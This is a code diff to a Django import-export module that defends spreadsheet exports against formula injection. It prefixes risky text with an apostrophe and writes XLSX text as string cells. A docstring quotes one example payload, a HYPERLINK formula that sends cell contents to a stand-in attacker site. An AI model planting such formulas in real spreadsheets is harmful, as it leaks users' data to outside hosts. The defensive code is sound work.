@@ -25,13 +25,23 @@ results and resources take the codes of their choices (measures.models.results):
 `duration_months` a whole number; `funding_sources` codes separated by
 semicolons, of `erdf`, `other-eu`, `national`, `regional`, `own-budget` and
 `private`. Indicators and origins are entered in the admin.
+
+An exported text that a spreadsheet would take for a formula (it starts with
+=, +, -, @, a tab or a carriage return) gets an apostrophe in front, as in the
+public CSV, and the import takes it off again. In XLSX every text is a string
+cell besides, so Excel never evaluates it.
 """
 
+import io
 import re
 
 from django.core.exceptions import ValidationError
 from django.utils.translation import gettext as _
 from import_export import fields, resources, widgets
+from import_export.formats.base_formats import XLSX
+from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.styles import Font
 
 from measures.models import (
     GOOD_PRACTICE_FIELDS,
@@ -42,6 +52,7 @@ from measures.models import (
     TargetGroup,
 )
 from measures.review import permissions
+from partners.text import from_spreadsheet_cell, spreadsheet_cell
 
 COLUMNS = [
     "slug",
@@ -208,10 +219,13 @@ class MeasureResource(resources.ModelResource):
                 # Empty spreadsheet cells arrive as None; the text fields store "".
                 row[column] = ""
             elif isinstance(value, str):
-                row[column] = value.strip()
+                row[column] = from_spreadsheet_cell(value.strip()).strip()
         if not row.get("slug") and row.get("title"):
             # Give new rows their slug now, so the preview and the import agree.
             row["slug"] = Measure(title=str(row["title"])).unique_slug()
+
+    def export_field(self, field, instance, **kwargs):
+        return spreadsheet_cell(super().export_field(field, instance, **kwargs))
 
     def get_instance(self, instance_loader, row):
         instance = super().get_instance(instance_loader, row)
@@ -261,3 +275,40 @@ class MeasureResource(resources.ModelResource):
         instance.updated_by = self.user
         if errors:
             raise ValidationError(errors)
+
+
+class TextCellsXLSX(XLSX):
+    """XLSX in which every text is a string cell, whatever it starts with.
+
+    tablib writes a text that starts with "=" as a formula, which Excel evaluates
+    when the sheet is opened: =HYPERLINK("http://evil.example/?x="&A1,"click") sends
+    the cells it names to another site. Reading a sheet is django-import-export's.
+    """
+
+    def export_data(self, dataset, **kwargs):
+        book = Workbook()
+        sheet = book.active
+        sheet.title = str(Measure._meta.verbose_name_plural)[:31]
+        sheet.append(dataset.headers)
+        for cell in sheet[1]:
+            cell.font = Font(bold=True)
+        sheet.freeze_panes = "A2"
+        for values in dataset:
+            sheet.append([self._cell_value(value) for value in values])
+            for cell in sheet[sheet.max_row]:
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"
+        return _saved(book)
+
+    @staticmethod
+    def _cell_value(value):
+        if isinstance(value, str):
+            # Characters XML cannot hold (NUL, form feed …) would stop the whole file.
+            return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
+        return value
+
+
+def _saved(book):
+    output = io.BytesIO()
+    book.save(output)
+    return output.getvalue()
